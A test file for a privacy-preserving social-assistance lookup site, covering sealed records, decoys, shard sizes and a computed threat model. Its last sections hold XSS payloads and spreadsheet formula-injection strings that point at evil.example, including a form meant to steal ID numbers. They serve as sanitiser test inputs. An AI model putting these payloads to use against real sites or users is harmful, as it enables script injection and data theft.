/**
 * The lookup's privacy (issue #16): sealed entries open only with their own
 * key, decoys cannot be told from real entries, every shard is the same size
 * on the wire, the membership oracle is kept small, programme texts are
 * sanitised, and downloads cannot run formulas in a spreadsheet.
 */
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, inject, it } from 'vitest';
import { currentGrants, payloadLength, periodKey, seal } from '../scripts/hash/seal.ts';
import { programHtml } from '../src/load/config.ts';
import { toCsv } from '../src/load/csv.ts';
import { loadAndPrepare } from '../src/build/prepare.ts';
import { LOOKUP_COSTS, threatFigures } from '../src/domain/lookup-cost.ts';
import { texts } from '../src/i18n/index.ts';
import { type DataIO, folderIO } from '../src/load/io.ts';
import { buildShards } from '../src/lookup/shards.ts';
import { threatTexts } from '../src/model/lookup-threats.ts';
import { ROOT } from './helpers.ts';

/** A data folder with some files replaced. */
const overlayIO = (io: DataIO, files: Record<string, string>): DataIO => ({
  read: async (rel) => (rel in files ? new TextEncoder().encode(files[rel]) : io.read(rel)),
  list: (rel) => io.list(rel),
});
import { findRecord, ID_BYTES, openRecord, recordBytes, splitKey } from '../src/shared/sealed.ts';

const kdfOut = () => randomBytes(32).toString('hex');

describe('sealed entries', () => {
  it('round-trip in Node: the CLI seals with node:crypto, WebCrypto opens with the same key, and nothing else opens it', async () => {
    const k = kdfOut();
    const payload = { g: [['pkh', 'aktif', '2026 tahap 1']] as [string, string, string][], d: 3 };
    const sealed = seal(k, payload, 128);
    const { id, key } = splitKey(k);
    const record = new Uint8Array([...Buffer.from(id, 'hex'), ...sealed]);
    expect(record.length).toBe(recordBytes(128));
    expect(await openRecord(crypto.subtle, key, record)).toEqual(payload);
    expect(await openRecord(crypto.subtle, splitKey(kdfOut()).key, record)).toBeNull();
    const shard = new Uint8Array([...randomBytes(record.length), ...record, ...randomBytes(record.length)]);
    expect(findRecord(shard, record.length, id)).toEqual(record);
    expect(findRecord(shard, record.length, splitKey(kdfOut()).id)).toBeUndefined();
  });

  it('pads every answer to one length for the release', () => {
    const small = { g: [['pkh', 'aktif', '1']] as [string, string, string][], d: null };
    const big = { g: Array.from({ length: 5 }, () => ['pbi-jk', 'ditangguhkan', 'Januari–Maret 2026'] as [string, string, string]), d: 10 };
    const n = payloadLength([small, big]);
    expect(seal(kdfOut(), small, n).length).toBe(seal(kdfOut(), big, n).length);
  });
});

describe('decoys and shards', () => {
  const entries = Array.from({ length: 1200 }, () => {
    const k = kdfOut();
    return { id: splitKey(k).id, data: new Uint8Array(seal(k, { g: [['sembako', 'aktif', '2026 tahap 1']], d: 2 }, 128)) };
  });
  const s = buildShards(entries, { rand: { bytes: (n) => new Uint8Array(randomBytes(n)) } });
  const real = new Set(entries.map((e) => e.id));
  const records = s.files.flatMap((f) =>
    Array.from({ length: s.perShard }, (_, i) => f.content.subarray(i * s.recordBytes, (i + 1) * s.recordBytes)),
  );
  const idOf = (r: Uint8Array) => Buffer.from(r.subarray(0, ID_BYTES)).toString('hex');
  const [reals, decoys] = [records.filter((r) => real.has(idOf(r))), records.filter((r) => !real.has(idOf(r)))];

  it('every shard holds the same number of records of one size, real and decoy alike', () => {
    expect(reals).toHaveLength(1200);
    expect(decoys.length).toBeGreaterThan(100);
    expect(new Set(records.map((r) => r.length))).toEqual(new Set([s.recordBytes]));
    expect(new Set(s.files.map((f) => f.content.length))).toEqual(new Set([s.bytes]));
  });

  it('decoys and real records have the same byte statistics (chi-square of byte values, and mean)', () => {
    const histogram = (rs: Uint8Array[]) => {
      const h = new Array<number>(256).fill(0);
      for (const r of rs) for (const b of r.subarray(ID_BYTES)) h[b]!++;
      return h;
    };
    const [a, b] = [histogram(reals), histogram(decoys)];
    const [na, nb] = [a.reduce((x, y) => x + y, 0), b.reduce((x, y) => x + y, 0)];
    // Two-sample chi-square over 256 byte values (255 degrees of freedom): 99.9th percentile ≈ 330.
    let chi = 0;
    for (let i = 0; i < 256; i++) {
      const both = a[i]! + b[i]!;
      if (both === 0) continue;
      const [ea, eb] = [(both * na) / (na + nb), (both * nb) / (na + nb)];
      chi += (a[i]! - ea) ** 2 / ea + (b[i]! - eb) ** 2 / eb;
    }
    expect(chi).toBeLessThan(330);
    const mean = (h: number[], n: number) => h.reduce((s, c, v) => s + c * v, 0) / n;
    expect(Math.abs(mean(a, na) - mean(b, nb))).toBeLessThan(2);
  });

  it('shards do not compress: served as they are, every shard is the same size on the wire', () => {
    for (const f of s.files) expect(gzipSync(f.content).length).toBeGreaterThanOrEqual(f.content.length);
  });
});

describe('the built sample site', () => {
  const dist = inject('sampleDist');
  it('has equal-size binary shards, told to hosts not to transform them', () => {
    const dir = path.join(dist, 'cek', 'k');
    const shards = readdirSync(dir).map((f) => readFileSync(path.join(dir, f)));
    expect(shards).toHaveLength(16);
    expect(new Set(shards.map((b) => b.length)).size).toBe(1);
    // Even a host that compresses them anyway sends every shard at one size.
    expect(new Set(shards.map((b) => gzipSync(b).length)).size).toBe(1);
    expect(readFileSync(path.join(dist, '_headers'), 'utf8')).toMatch(
      /\/cek\/k\/\*\n(?: {2}[^\n]+\n)* {2}Cache-Control: [^\n]*no-transform/,
    );
  });
  it('states the measured attack costs on /metodologi/ in both languages', () => {
    const id = readFileSync(path.join(dist, 'metodologi', 'index.html'), 'utf8');
    const en = readFileSync(path.join(dist, 'en', 'metodologi', 'index.html'), 'utf8');
    expect(id).toContain('Argon2id (RFC 9106; 64 MiB, 1 putaran)');
    expect(id).toMatch(/pada satu inti prosesor \(diukur: [\d,]+ detik per tebakan\)/);
    expect(en).toMatch(/on one CPU core \(measured: [\d.]+ s per guess\)/);
    expect(en).toContain('24,000–270,000');
  });
});

/** The page's text as a reader sees it: tags dropped, entities decoded, spaces collapsed. */
const pageText = (html: string) =>
  html
    .replace(/<[^>]+>/g, ' ')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&')
    .replace(/\s+/g, ' ');

describe('the threat model on /metodologi/ is computed, not written', () => {
  const dist = inject('sampleDist');
  let prepared: ReturnType<typeof loadAndPrepare> | undefined;
  const manifest = async () => {
    prepared ??= loadAndPrepare(folderIO(path.join(ROOT, 'data')));
    return (await prepared).prepared!.model.cek!;
  };

  it.each(['id', 'en'] as const)('the %s page states exactly what the constants give', async (lang) => {
    const html = pageText(readFileSync(path.join(dist, ...(lang === 'en' ? ['en'] : []), 'metodologi', 'index.html'), 'utf8'));
    const paragraphs = texts(lang).mCekThreats(threatTexts(await manifest(), lang));
    for (const p of paragraphs) expect(html).toContain(p.replace(/\s+/g, ' '));
  });

  it('a changed constant changes the page: every figure follows the measured cost', async () => {
    const cek = await manifest();
    const now = texts('id').mCekThreats(threatTexts(cek, 'id'));
    const slower = texts('id').mCekThreats(
      threatTexts(cek, 'id', { ...LOOKUP_COSTS, cpuSecondsArgon2id: LOOKUP_COSTS.cpuSecondsArgon2id * 2 }),
    );
    expect(slower[0]).not.toBe(now[0]); // the leaked-list cost
    expect(slower[1]).not.toBe(now[1]); // the targeted attack on one core
    const fasterGpu = texts('id').mCekThreats(threatTexts(cek, 'id', { ...LOOKUP_COSTS, gpuRateArgon2id: [10_000, 20_000] }));
    expect(fasterGpu[2]).not.toBe(now[2]); // the bulk attack
    // The leaked-list figure is one KDF per person: 10^6 people × 0.11 s ≈ 31 hours of one core.
    const f = threatFigures(LOOKUP_COSTS, 'argon2id');
    expect(f.leakedCpu).toBeCloseTo(LOOKUP_COSTS.leakedListPeople * LOOKUP_COSTS.cpuSecondsArgon2id, 6);
    expect(f.bulkGpu[0]).toBeCloseTo((LOOKUP_COSTS.nikPerKecamatan[0] * LOOKUP_COSTS.kkCandidates[0]) / LOOKUP_COSTS.gpuRateArgon2id[1], 3);
  });

  it('says no more about hidden cells than their total: no split into small and protecting ones', () => {
    for (const page of [['metodologi'], ['en', 'metodologi']]) {
      const html = pageText(readFileSync(path.join(dist, ...page, 'index.html'), 'utf8'));
      expect(html).not.toMatch(/disembunyikan karena kecil|hidden because they are small/);
      expect(html).not.toMatch(/\d[\d.,]* (angka tersembunyi yang aslinya|hidden figures whose true value)/);
    }
  });
});

describe('the same release, built twice', () => {
  const dist = inject('sampleDist');
  const shardsOf = async (io: DataIO) => {
    const { prepared, problems } = await loadAndPrepare(io);
    return { problems, shards: (await Array.fromAsync(prepared!.files)).filter((f) => f.path.startsWith('cek/k/')) };
  };
  const bytes = (fs: { content: string | Uint8Array }[]) => fs.map((f) => Buffer.from(f.content).toString('base64'));

  it('gives identical shards, the same as the built site: decoys are kept with the sealed list, never drawn anew', async () => {
    const [a, b] = [await shardsOf(folderIO(path.join(ROOT, 'data'))), await shardsOf(folderIO(path.join(ROOT, 'data')))];
    expect(a.shards).toHaveLength(16);
    expect(bytes(b.shards)).toEqual(bytes(a.shards));
    for (const f of a.shards) expect(readFileSync(path.join(dist, f.path)).equals(Buffer.from(f.content)), f.path).toBe(true);
  });

  it('the sealed list itself holds its decoys: a copy of penerima.csv tells real from decoy no better than the shards', () => {
    const kdf = JSON.parse(readFileSync(path.join(ROOT, 'data', 'penerima-kdf.json'), 'utf8'));
    const rows = readFileSync(path.join(ROOT, 'data', 'penerima.csv'), 'utf8')
      .trim()
      .split(/\r?\n/)
      .slice(1);
    expect(rows).toHaveLength(16 ** kdf.awalan * kdf.per_berkas);
    expect(kdf.orang).toBeLessThan(rows.length);
    const ids = rows.map((r) => r.split(',')[0]!);
    expect([...ids].sort()).toEqual(ids); // sorted: row order says nothing either
  });

  it('a list made before decoys were stored gets the same decoys in every build, with a warning to hash it again', async () => {
    const kdf = JSON.parse(readFileSync(path.join(ROOT, 'data', 'penerima-kdf.json'), 'utf8'));
    // As npm run hash wrote lists before decoys were stored: no layout, no digest.
    delete kdf.awalan;
    delete kdf.per_berkas;
    delete kdf.entri;
    const rows = readFileSync(path.join(ROOT, 'data', 'penerima.csv'), 'utf8')
      .trim()
      .split(/\r?\n/);
    const legacy = () =>
      overlayIO(folderIO(path.join(ROOT, 'data')), {
        'penerima-kdf.json': JSON.stringify(kdf),
        'penerima.csv': rows.slice(0, 301).join('\r\n'),
      });
    const [a, b] = [await shardsOf(legacy()), await shardsOf(legacy())];
    expect(bytes(b.shards)).toEqual(bytes(a.shards));
    expect(a.problems.filter((p) => p.kind === 'lookup_without_decoys')).toHaveLength(1);
  });

  it('a list edited by hand after hashing (same salt, other entries) is refused', async () => {
    const rows = readFileSync(path.join(ROOT, 'data', 'penerima.csv'), 'utf8')
      .trim()
      .split(/\r?\n/);
    // Someone deletes one person's entry to "remove them from the list" without hashing again.
    const io = overlayIO(folderIO(path.join(ROOT, 'data')), { 'penerima.csv': [...rows.slice(0, 10), ...rows.slice(11)].join('\r\n') });
    const { prepared, problems } = await loadAndPrepare(io);
    expect(prepared).toBeUndefined();
    expect(problems.filter((p) => p.kind === 'lookup_edited').map((p) => p.expected.id)).toEqual([
      expect.stringContaining('jalankan npm run hash lagi (garam baru)'),
    ]);
  });

  it('a line of penerima.csv given twice is refused with both lines, said once', async () => {
    const rows = readFileSync(path.join(ROOT, 'data', 'penerima.csv'), 'utf8')
      .trim()
      .split(/\r?\n/);
    const io = overlayIO(folderIO(path.join(ROOT, 'data')), { 'penerima.csv': [...rows, rows[5]!].join('\r\n') });
    const { prepared, problems } = await loadAndPrepare(io);
    expect(prepared).toBeUndefined();
    expect(problems.filter((p) => p.level === 'error').map((p) => `${p.kind} ${p.line}`)).toEqual([`duplicate_key ${rows.length + 1}`]);
    expect(problems.find((p) => p.kind === 'duplicate_key')!.expected.id).toContain('sudah ada di baris 6');
  });

  it('the same list under a new release label is accepted, and the page names the release it was processed for', async () => {
    const portal = JSON.parse(readFileSync(path.join(ROOT, 'data', 'portal.json'), 'utf8'));
    const io = overlayIO(folderIO(path.join(ROOT, 'data')), {
      'portal.json': JSON.stringify({ ...portal, rilis: { label: '2026-2', tanggal: '2026-06-30' } }),
    });
    const { prepared } = await loadAndPrepare(io);
    expect(prepared!.model.cek!.listRelease).toBe('2026-1');
    expect(texts('id').mCekThreats(threatTexts(prepared!.model.cek!, 'id')).at(-1)).toContain('diolah untuk rilis 2026-1');
  });
});

describe('the membership oracle', () => {
  const person = (grants: [string, string, string][]) => ({
    nik: '1',
    kk: '2',
    grants: grants.map(([program, status, periode]) => ({ program, status: status as never, periode })),
  });
  it('orders free-text periods', () => {
    expect(periodKey('2026 tahap 1')).toBeLessThan(periodKey('2026 tahap 2'));
    expect(periodKey('Januari–Maret 2026')).toBeLessThan(periodKey('April–Juni 2026'));
    expect(periodKey('2025 tahap 4')).toBeLessThan(periodKey('2026 tahap 1'));
  });
  it("keeps usulan and dihentikan only for a programme's newest period, active and suspended always", () => {
    const people = currentGrants([
      person([
        ['pkh', 'dihentikan', '2025 tahap 4'],
        ['pbi-jk', 'aktif', 'Januari–Maret 2026'],
      ]),
      person([['pkh', 'usulan', '2025 tahap 3']]),
      person([
        ['pkh', 'aktif', '2026 tahap 1'],
        ['sembako', 'ditangguhkan', '2025 tahap 1'],
      ]),
      person([['pkh', 'dihentikan', '2026 tahap 1']]),
    ]);
    expect(people.map((p) => p.grants.map((g) => `${g.program}:${g.status}`))).toEqual([
      ['pbi-jk:aktif'],
      ['pkh:aktif', 'sembako:ditangguhkan'],
      ['pkh:dihentikan'],
    ]);
  });
});

describe('programme texts', () => {
  it.each([
    ['<img src=x onerror=alert(1)>', '<img'],
    ['<script>alert(1)</script>', '<script'],
    ['<iframe src="https://evil.example"></iframe>', '<iframe'],
    ['<form action="https://evil.example/steal"><input name="nik"></form>', '<form'],
    ['<a href="javascript:alert(1)">klik</a>', 'javascript:'],
    ['<p style="position:fixed">x</p>', 'style='],
    ['<a href="https://x.example" onclick="steal()">x</a>', 'onclick'],
  ])('keeps %s out', (payload, bad) => {
    expect(programHtml(`<p>Cara mendaftar</p>${payload}`)).not.toContain(bad);
  });
  it('keeps headings, lists and links to the web, phone, WhatsApp and e-mail', () => {
    const html = programHtml(
      '<h2>Pengaduan</h2><ul><li><a href="tel:0274123">Telepon</a></li><li><a href="https://wa.me/62812">WA</a></li></ul>',
    );
    expect(html).toContain('<h2>Pengaduan</h2>');
    expect(html).toContain('href="tel:0274123"');
    expect(html).toMatch(/<a (?=[^>]*href="https:\/\/wa\.me\/62812")(?=[^>]*rel="nofollow noopener noreferrer")[^>]*>WA<\/a>/);
  });
});

describe('downloads in a spreadsheet', () => {
  it('neutralise cells that would run as formulas, and leave numbers, negative ones included, as numbers', () => {
    const csv = toCsv(
      ['nama', 'jumlah', 'selisih'],
      [
        { nama: '=HYPERLINK("https://evil.example","klik")', jumlah: 5, selisih: -3 },
        { nama: '+62 812', jumlah: 0, selisih: 2 },
        { nama: '@SUM(A1)', jumlah: 1, selisih: 0 },
        { nama: 'Puskesos -', jumlah: 2, selisih: 1 },
      ],
    );
    const lines = csv.trim().split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""https://evil.example"",""klik"")",5,-3`);
    expect(lines[2]).toBe("'+62 812,0,2");
    expect(lines[3]).toBe("'@SUM(A1),1,0");
    expect(lines[4]).toBe('Puskesos -,2,1');
  });
});
